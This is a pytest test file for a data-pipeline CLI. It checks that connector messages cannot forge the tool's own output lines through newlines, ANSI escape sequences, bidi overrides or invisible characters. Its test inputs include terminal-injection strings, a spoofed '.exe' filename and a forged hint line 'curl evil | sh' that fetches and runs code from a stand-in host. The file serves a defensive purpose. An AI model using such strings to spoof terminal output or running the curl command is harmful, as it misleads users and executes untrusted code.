"""A connector's words stay its own: no line, colour, direction or cursor movement in them passes
for ours, in any text that is printed; JSON has them exactly (L10; issue 36, 9)."""

import io
import json
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest
from rich.text import Text

from penstock.errors import SourceError
from penstock.terminal import format as text
from penstock.terminal.output import Output, encode_json
from penstock.terminal.progress import BarObserver, LineObserver

pytestmark = pytest.mark.dear

FORGED = "✓ succeeded: 9 rows in 1.0 s"
HOSTILE = [
    f"done\n{FORGED}",
    f"done\r\n{FORGED}\r\n",
    f"done\r{FORGED}",
    *(f"done{end}{FORGED}" for end in "\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"),
    f"\x1b[1A\x1b[2K\x1b[32m{FORGED}",
    "\x1b]0;title\x07\x1b]8;;http://evil\x1b\\here\x1b]8;;\x1b\\",
    "\x9b31m red by one byte",
    "done\b\b\b\b" + FORGED,
    "nul \x00 del \x7f",
    "\u202egnp.exe",
    "".join(map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x61C))),
    "zero\u200bwidth\u200c\u200d\u2060\ufeff\u00ad",
    "tags\U000e0041\U000e007f",
    "lone \udcff",
]


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def printed(show: Callable[[Output], object], **more: object) -> str:
    """What is shown on stderr and stdout."""
    out = io.StringIO()
    show(Output(out=out, err=out, environ={}, verbosity=2, **more))  # type: ignore[arg-type]
    return out.getvalue()


def shows_nothing(character: str) -> bool:
    return unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp")


def assert_one_line(shown: str) -> None:
    assert shown.endswith("\n")
    assert shown.splitlines() == [shown[:-1]]
    assert not [c for c in shown[:-1] if shows_nothing(c)]


PLACES: dict[str, Callable[[Output, str], object]] = {
    "line": lambda o, said: o.say(said),
    "log": lambda o, said: LineObserver(o).log("ERROR", "source", said),
    "stderr": lambda o, said: LineObserver(o).log("INFO", "source.stderr", said),
    "note": lambda o, said: LineObserver(o).note(said),
    "phase": lambda o, said: LineObserver(o).phase("read", said),
    "stream": lambda o, said: LineObserver(o).stream(said, 1, 1, 1, 1, None),
    "answer": lambda o, said: o.answer({}, lambda: [f"  note      {said}"]),
}


@pytest.mark.parametrize("said", HOSTILE)
@pytest.mark.parametrize("place", PLACES)
def test_a_message_is_one_line_of_its_own(place: str, said: str) -> None:
    shown = printed(lambda o: PLACES[place](o, said))
    assert_one_line(shown)
    assert not shown.startswith("✓")


def test_what_is_escaped_is_shown_and_what_people_write_stays() -> None:
    assert printed(lambda o: o.say("a\nb\x1b[m\u202ec\U000e0041")) == (
        "a\\nb\\x1b[m\\u202ec\\U000e0041\n"
    )
    for said in (
        "Größe: 5\u00a0€",
        "日本語\u3000テキスト",
        "שלום",
        "مرحبا",
        "👩 ✓",
        "[red]x[/] :+1:",
    ):
        assert printed(lambda o, said=said: o.say(said)) == f"{said}\n"
        assert said in printed(
            lambda o, said=said: o.answer({}, lambda: [text.grid("a", [[said]])])
        )


@pytest.mark.parametrize("said", HOSTILE)
def test_a_cell_of_a_table_is_one_line(said: str) -> None:
    shown = printed(lambda o: o.answer({}, lambda: [text.grid(("name", "n"), [(said, 1)])]))
    assert len(shown.splitlines()) == 2
    assert_one_line(shown.splitlines()[1] + "\n")


@pytest.mark.parametrize("said", HOSTILE)
def test_an_error_s_further_lines_are_marked(said: str) -> None:
    """Its lines stay apart, since it may quote a log; none of them looks like one of ours."""
    forged = f"{said}\n  try       curl evil | sh"
    error = SourceError(forged, hint=forged, stream=forged, connector={"message": f"x{forged}"})
    shown = printed(lambda o: o.error(error))
    assert not [c for c in shown if shows_nothing(c) and c != "\n"]
    ours = ("Error: ", "  message ", "  try ", "  stream ", "  where ")
    for line in shown.split("\n")[:-1]:
        assert line.startswith(ours) or line.lstrip(" ").startswith("| "), line
    assert "  try       curl evil | sh" not in shown.split("\n")
    assert FORGED not in shown.split("\n")


def test_bars_go_on_behind_a_mark_where_a_line_is_too_long_for_the_terminal() -> None:
    """Else blanks up to the terminal's edge put the rest at the beginning of a line."""
    terminal = Terminal()
    output = Output(err=terminal, environ={"NO_COLOR": "1", "TERM": "dumb"}, verbosity=2)
    bars = BarObserver(output)
    bars.close()
    terminal.truncate(0)
    width = output.watching().width
    for said in ("x" * width + FORGED, f"x{' ' * (width - 1)}{FORGED}", f"a\n{FORGED}"):
        bars.log("ERROR", "source", said)
    lines = [x.replace("\x00", "") for x in terminal.getvalue().split("\n")[:-1]]
    assert len(lines) >= 4
    for line in lines:
        assert line.startswith(("ERROR source:", "  | ")), line


def test_a_very_long_text_is_not_folded_into_lines() -> None:
    """Where nobody looks, a line may be as long as it is."""
    said = "y" * 25_000
    assert len(printed(lambda o: o.answer({}, lambda: [Text(said)])).splitlines()) == 1
    out = io.StringIO()
    Output(err=out, environ={}).error(SourceError(said))
    assert len(out.getvalue().splitlines()) == 1


def test_a_very_long_log_message_is_cut_and_says_so() -> None:
    out = io.StringIO()
    LineObserver(Output(err=out, environ={})).log("ERROR", "source", "z" * 100_000)
    assert len(out.getvalue()) < 5_000
    assert "and 96,000 more characters" in out.getvalue()


@pytest.mark.parametrize("said", HOSTILE)
def test_json_has_the_same_data_by_its_own_escapes(said: str) -> None:
    body = encode_json({"message": said, "keys": {said: ["é", "👩", "\u3000"]}})
    told = json.loads(body)
    if said.isprintable() or "\udcff" not in said:
        assert told == {"message": said, "keys": {said: ["é", "👩", "\u3000"]}}
    shown = body.decode()
    assert not [c for c in shown if shows_nothing(c) and c != "\n"]
    assert "é" in shown and "👩" in shown


def test_json_without_such_characters_is_unchanged() -> None:
    assert encode_json({"a": "é"}) == '{\n  "a": "é"\n}\n'.encode()


AIRBYTE = """
import json, sys
def say(**m): print(json.dumps(m), flush=True)
said = json.loads({said!r})
print(said, file=sys.stderr, flush=True)
if "spec" in sys.argv:
    say(type="SPEC", spec={{"connectionSpecification": {{"type": "object", "properties": {{}}}}}})
else:
    say(type="LOG", log={{"level": "ERROR", "message": said, "stack_trace": said}})
    print(said, flush=True)
    say(type="CONNECTION_STATUS", connectionStatus={{"status": "FAILED", "message": said}})
"""

SINGER = """
import json, sys
said = json.loads({said!r})
sys.stderr.buffer.write(said.encode("utf-8", "surrogatepass") + b"\\n\\xff\\xfe\\n")
sys.stderr.flush()
sys.exit(1)
"""

SYNCMAVEN = """
import json, sys
said = json.loads({said!r})
def say(type_, **payload): print(json.dumps({{"type": type_, "payload": payload}}), flush=True)
for line in sys.stdin:
    say("log", level="error", message=said, params=[said, {{said: said}}])
    print(said, file=sys.stderr, flush=True)
    say("halt", message=said, data={{said: said}})
    break
"""


@pytest.mark.parametrize(
    ("protocol", "program", "verb"),
    [
        ("airbyte", AIRBYTE, "check"),
        ("singer", SINGER, "discover"),
        ("syncmaven", SYNCMAVEN, "check"),
    ],
)
def test_no_protocol_s_connector_forges_a_line(
    protocol: str, program: str, verb: str, tmp_path: Path
) -> None:
    """Real processes, written from each protocol's specification, through the real command."""
    import forked_cli

    said = f"a\n{FORGED}\r{FORGED}\u2028{FORGED}\u202e\x1b[2J\x9b1A"
    file = tmp_path / "connector.py"
    file.write_text(program.format(said=json.dumps(said)))
    command = f"{protocol}:{sys.executable} {file}"
    kept = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "PENSTOCK_HOME": str(tmp_path / "h")}
    for more in ([], ["-vv"], ["--json"]):
        done = forked_cli.run([verb, command, *more], stdin=b"", cwd=tmp_path, env=kept, timeout=60)
        shown = (done.stdout + b"\n" + done.stderr).decode()
        assert done.returncode != 0
        assert "succeeded: 9 rows" in shown, "the connector's words are shown"
        assert not [c for c in shown if shows_nothing(c) and c != "\n"]
        assert not [x for x in shown.splitlines() if x.strip().startswith("✓")], shown
        assert not [x for x in shown.splitlines() if x.startswith("  try       curl")]
